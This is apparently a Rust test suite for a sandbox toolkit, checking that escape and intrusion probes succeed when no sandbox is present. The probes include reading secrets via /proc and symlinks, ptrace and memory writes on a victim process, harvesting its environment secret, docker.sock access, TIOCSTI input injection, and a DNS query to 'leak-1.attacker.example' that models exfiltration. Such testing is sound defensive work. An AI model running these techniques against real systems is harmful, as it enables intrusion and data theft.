//! The probes work where nothing stops them: without this, a denial in a sandbox would prove nothing.
#![forbid(unsafe_code)]

use std::sync::OnceLock;

use rcc_testkit::probe::Record;
use rcc_testkit::world::{Running, World};

fn shared() -> Option<&'static World> {
    static WORLD: OnceLock<Option<World>> = OnceLock::new();
    WORLD.get_or_init(World::start_or_skip).as_ref()
}

/// A process of the world's user to aim at.
fn victim(world: &World) -> Running {
    let victim = world
        .host_command("sh")
        .args(["-c", "echo up; exec sleep 600"])
        .env("VICTIM_SECRET", "s3cret")
        .spawn();
    victim.wait_for_text("up");
    victim
}

fn is_root(world: &World) -> bool {
    world.user().uid == 0
}

#[test]
fn files_can_be_read_in_every_way() {
    let Some(world) = shared() else { return };
    let secret = world.scratch_file("files/secret", "the secret\n");
    let secret = secret.to_str().unwrap();
    let others = World::scratch_file(world, "files/other", "old\n");
    let other = others.to_str().unwrap();
    for words in [
        vec!["read", secret],
        vec!["read-by-symlink", secret],
        vec!["read-by-dotdot", secret],
        vec!["read-by-proc", "self", "root", secret],
        vec!["read-by-proc", "self", "cwd", secret],
        vec!["socketpair-pass-fd", secret],
    ] {
        let record = world.probe(&words);
        record.assert_ok();
        assert_eq!(record.detail, "the secret\n", "{words:?}");
    }
    world.probe(["write", other, "new\n"]).assert_ok();
    world.probe(["append", other, "more\n"]).assert_ok();
    world.probe(["write-by-symlink", other, "NEW"]).assert_ok();
    assert_eq!(std::fs::read_to_string(&others).unwrap(), "NEW\nmore\n");
    let link = world.scratch().join("files/link");
    world
        .probe(["hardlink", secret, link.to_str().unwrap()])
        .assert_ok();
    world.probe(["read", link.to_str().unwrap()]).assert_ok();
    world
        .probe(["read", "/no/such/file"])
        .assert_denied("ENOENT");
}

#[test]
fn programs_run_from_a_file_and_from_memory() {
    let Some(world) = shared() else { return };
    for probe in ["run", "memfd-run"] {
        let record = world.probe([probe, "/bin/echo", "hello"]);
        record.assert_ok();
        assert_eq!(record.detail["stdout"], "hello\n", "{probe}");
    }
}

#[test]
fn a_process_of_the_same_user_is_in_reach() {
    let Some(world) = shared() else { return };
    let mut victim = victim(world);
    let pid = victim.pid().to_string();
    for words in [
        vec!["signal", &pid, "0"],
        vec!["ptrace-attach", &pid],
        vec!["ptrace-seize", &pid],
        vec!["memory-read", &pid],
        vec!["memory-write", &pid],
        vec!["proc-mem", &pid],
        vec!["pidfd-open", &pid],
        vec!["pidfd-getfd", &pid, "1"],
        vec!["set-priority", &pid],
        vec!["open-proc-fds", &pid],
        vec!["read-by-proc", &pid, "root", "/etc/hosts"],
        vec!["read-by-proc", &pid, "cwd", "/etc/hosts"],
    ] {
        world.probe(&words).assert_ok();
    }
    let record = world.probe(["environ-of", &pid]);
    assert!(
        record
            .detail
            .as_array()
            .unwrap()
            .iter()
            .any(|line| line == "VICTIM_SECRET=s3cret"),
        "{record:?}"
    );
    assert_eq!(world.probe(["pids"]).detail[&pid], "sleep");
    world.probe(["signal", &pid, "9"]).assert_ok();
    victim.kill_tree();
    assert_eq!(victim.wait().ending, rcc_testkit::world::Ending::Signal(9));
}

#[test]
fn sockets_of_the_host_are_in_reach() {
    let Some(world) = shared() else { return };
    let path = world.scratch_directory("sockets").join("service.sock");
    let service = world
        .host_command("socat")
        .args([
            "-d",
            "-d",
            &format!("UNIX-LISTEN:{},fork", path.display()),
            "SYSTEM:echo from the service",
        ])
        .spawn();
    service.wait_for_text("listening on");
    let path = path.to_str().unwrap();
    assert_eq!(
        world.probe(["unix-connect", path]).assert_ok().detail,
        "from the service\n"
    );
    assert_eq!(
        world.probe(["unix-by-proc-fd", path]).assert_ok().detail,
        "from the service\n"
    );
    let walk = world.probe(["unix-walk", world.scratch().to_str().unwrap()]);
    walk.assert_ok();
    let hidden = world
        .host_command("socat")
        .args([
            "-d",
            "-d",
            "ABSTRACT-LISTEN:rcc-hidden,fork",
            "SYSTEM:echo abstract",
        ])
        .spawn();
    hidden.wait_for_text("listening on");
    assert_eq!(
        world
            .probe(["abstract-connect", "rcc-hidden"])
            .assert_ok()
            .detail,
        "abstract\n"
    );
    let names = world.probe(["abstract-list"]);
    assert!(
        names
            .detail
            .as_array()
            .unwrap()
            .iter()
            .any(|name| name == "@rcc-hidden"),
        "{names:?}"
    );
}

#[test]
fn the_decoys_of_a_real_host_answer() {
    use rcc_testkit::world::WorldConfig;
    use rcc_testkit::world::addresses::{
        HOST_ABSTRACT_SOCKETS, HOST_DATAGRAM_SOCKETS, HOST_SOCKETS,
    };
    let Some(world) = World::with_or_skip(WorldConfig::default().host_sockets()) else {
        return;
    };
    let for_user = |path: &&str| path.replace("UID", &world.user().uid.to_string());
    for path in HOST_SOCKETS.iter().map(for_user) {
        assert_eq!(
            world.probe(["unix-connect", &path]).assert_ok().detail,
            format!("hello from {path}\n")
        );
        assert!(world.seen().contains_key(&format!("unix {path}")), "{path}");
    }
    // /var/run is a link to /run on every machine that the project supports.
    world
        .probe(["unix-connect", "/var/run/docker.sock"])
        .assert_ok();
    world
        .probe(["dbus", "/run/dbus/system_bus_socket"])
        .assert_ok();
    for path in HOST_DATAGRAM_SOCKETS {
        world.probe(["unix-send", path, "READY=1"]).assert_ok();
        world.probe(["unix-sendmsg", path, "READY=1"]).assert_ok();
    }
    for name in HOST_ABSTRACT_SOCKETS {
        world.probe(["abstract-connect", name]).assert_ok();
    }
    let walk = world.probe(["unix-walk", "/run"]);
    assert_eq!(
        walk.assert_ok().detail.as_array().unwrap().len(),
        HOST_SOCKETS.len() + HOST_DATAGRAM_SOCKETS.len()
    );
}

#[test]
fn the_network_answers_every_probe() {
    let Some(world) = shared() else { return };
    let tcp = world.probe(["tcp", "denied.example", "80"]);
    tcp.assert_ok();
    let http = world.probe(["http", "203.0.113.20", "80", "denied.example", "/probe"]);
    assert_eq!(http.assert_ok().detail["status"], 200);
    world
        .probe(["udp", "203.0.113.20", "7", "hello"])
        .assert_ok();
    assert_eq!(
        world
            .probe(["half-close", "203.0.113.20", "4000", "100000"])
            .assert_ok()
            .detail["text"],
        "got 100000 bytes\n"
    );
    assert_eq!(
        world
            .probe(["half-close-peer", "203.0.113.20", "4001", "5000"])
            .assert_ok()
            .detail["sent"],
        5000
    );
    world
        .probe(["tcp", "203.0.113.20", "81"])
        .assert_denied("ECONNREFUSED");
    let late = world.probe(["tcp", "198.51.100.66", "80", "200"]);
    assert_eq!(late.detail["tried"][0]["how"], "timeout");
    world
        .probe(["download", "203.0.113.20", "19", "100"])
        .assert_ok();
    world
        .probe(["upload", "203.0.113.20", "9", "100"])
        .assert_ok();
    world
        .probe(["connect-rate", "203.0.113.20", "9", "50"])
        .assert_ok();
    world
        .probe(["echo-latency", "203.0.113.20", "7", "50"])
        .assert_ok();
    assert_eq!(
        world
            .probe(["resolve", "v6only.example"])
            .assert_ok()
            .detail["addresses"][0],
        "2001:db8::31"
    );
}

#[test]
fn questions_of_every_shape_reach_the_resolver() {
    let Some(world) = shared() else { return };
    let resolver = "203.0.113.53";
    for (transport, kind, expected) in [
        ("udp", "A", "203.0.113.10"),
        ("tcp", "AAAA", "2001:db8::10"),
        ("udp", "NULL", "010203"),
        ("udp", "HTTPS", "0001000001000302683200040004cb00710a"),
    ] {
        let record = world.probe([
            "dns",
            resolver,
            transport,
            "allowed.example",
            kind,
            "edns=1232",
        ]);
        assert_eq!(
            record.assert_ok().detail["answers"][0][3],
            expected,
            "{record:?}"
        );
    }
    let missing = world.probe(["dns", resolver, "udp", "missing.example", "A"]);
    assert_eq!((missing.ok, &missing.detail["code"]), (false, &3.into()));
    let truncated = world.probe(["dns", "203.0.113.55", "udp", "big.example", "A"]);
    assert_eq!(truncated.assert_ok().detail["truncated"], true);
    let whole = world.probe(["dns", "203.0.113.55", "tcp", "big.example", "A"]);
    assert_eq!(
        whole.assert_ok().detail["answers"]
            .as_array()
            .unwrap()
            .len(),
        60
    );
    let direct = world.probe([
        "dns",
        "198.51.100.53",
        "udp",
        "leak-1.attacker.example",
        "TXT",
    ]);
    direct.assert_ok();
    assert!(
        world
            .strange_queries()
            .iter()
            .any(|query| query.name == "leak-1.attacker.example")
    );
    assert!(
        world
            .packets()
            .iter()
            .any(|packet| packet.contains(b"\x06leak-1\x08attacker"))
    );
}

#[test]
fn the_resolver_that_changes_its_mind_does() {
    let Some(world) = World::start_or_skip() else {
        return;
    };
    let ask = |name: &str| {
        world
            .probe(["dns", "203.0.113.53", "udp", name, "A"])
            .detail["answers"][0][3]
            .clone()
    };
    assert_eq!(
        [
            ask("flip.example"),
            ask("flip.example"),
            ask("flip.example")
        ],
        ["203.0.113.60", "192.168.77.10", "203.0.113.60"]
    );
    assert_eq!(
        [ask("flip-loopback.example"), ask("flip-loopback.example")],
        ["203.0.113.61", "127.0.0.1"]
    );
}

#[test]
fn namespaces_can_be_made_without_a_sandbox() {
    let Some(world) = shared() else { return };
    for way in ["unshare", "clone", "clone3"] {
        world.probe([way, "user"]).assert_ok();
        world.probe([way, "all"]).assert_ok();
    }
    world.probe(["nested-user-namespace"]).assert_ok();
    let sweep = world.probe(["namespaces-sweep"]);
    sweep.assert_ok();
    assert_eq!(sweep.detail["unshare net+user"], "ok");
}

#[test]
fn the_kernel_surface_is_open_without_a_sandbox() {
    let Some(world) = shared() else { return };
    for probe in [
        "io-uring-setup",
        "userfaultfd-user-mode",
        "add-key",
        "keyctl-join",
        "personality",
        "modify-ldt",
        "add-seccomp-filter",
    ] {
        world.probe([probe]).assert_ok();
    }
    for family in ["UNIX", "INET", "INET6"] {
        world.probe(["socket", family, "1"]).assert_ok();
    }
    world.probe(["socket", "NETLINK", "3", "12"]).assert_ok();
    world
        .probe(["socket", "AX25", "5"])
        .assert_denied_with_any(&["EAFNOSUPPORT", "ESOCKTNOSUPPORT", "EPERM"]);
    let sweep = world.probe(["sweep"]);
    let sweep = sweep.assert_ok().detail.as_object().unwrap();
    assert!(sweep.len() > 400);
    assert_eq!(sweep["close"], "EBADF");
    assert_eq!(sweep["read"], "EBADF");
    assert_eq!(sweep["unshare"], "EINVAL");
    assert_eq!(sweep["nr_500"], "ENOSYS");
}

/// What root may do, and what stops everybody else on the way to the same call.
#[test]
fn privileged_calls_tell_root_from_others() {
    let Some(world) = shared() else { return };
    for (probe, for_root) in [
        ("reboot", "EINVAL"),
        ("adjtimex", "EINVAL"),
        ("swapon", "ENOENT"),
        ("acct", "ENOENT"),
    ] {
        let expected = if is_root(world) { for_root } else { "EPERM" };
        world.probe([probe]).assert_denied(expected);
    }
    let setuid = world.probe(["setuid", "0"]);
    assert_eq!(setuid.ok, is_root(world), "{setuid:?}");
}

#[test]
fn a_terminal_takes_pushed_input() {
    let Some(world) = shared() else { return };
    let probe = rcc_testkit::probe::path();
    for name in ["tiocsti", "tiocsti-high-bits"] {
        let output = world
            .host_command(&probe)
            .arg(name)
            .spawn_terminal(24, 80)
            .wait();
        let record = Record::from_text(&output.stdout_text());
        // tty_ioctl(4): without CAP_SYS_ADMIN this needs dev.tty.legacy_tiocsti since Linux 6.2, and is EIO otherwise.
        if !record.ok {
            record.assert_denied("EIO");
        }
    }
}

#[test]
fn the_posture_record_is_whole() {
    let Some(world) = shared() else { return };
    let record = world.probe(["posture"]);
    let detail = record.assert_ok().detail.as_object().unwrap();
    for key in [
        "namespaces",
        "credentials",
        "mounts",
        "descriptors",
        "limits",
        "environment",
        "devices",
        "interfaces",
        "routes",
    ] {
        assert!(detail.contains_key(key), "{key}");
    }
    assert_eq!(detail["hostname"], "rcc-test-host");
    assert_eq!(
        detail["credentials"]["uid"][0],
        world.user().uid.to_string()
    );
    let effective = detail["credentials"]["effective"].as_array().unwrap();
    assert_eq!(
        effective.is_empty(),
        !is_root(world),
        "an ordinary user has no capability in the world"
    );
}

#[test]
fn a_wrong_call_of_a_probe_is_no_denial() {
    let Some(world) = shared() else { return };
    for words in [
        vec!["no-such-probe"],
        vec!["read"],
        vec!["socket", "x", "y"],
    ] {
        let output = world
            .host_command(rcc_testkit::probe::path())
            .args(&words)
            .output();
        output.assert_code(2);
        assert!(output.stdout.is_empty());
    }
}

#[test]
fn all_of_this_works_for_an_ordinary_user_too() {
    rcc_testkit::run_again_as_ordinary_user(&[]);
}
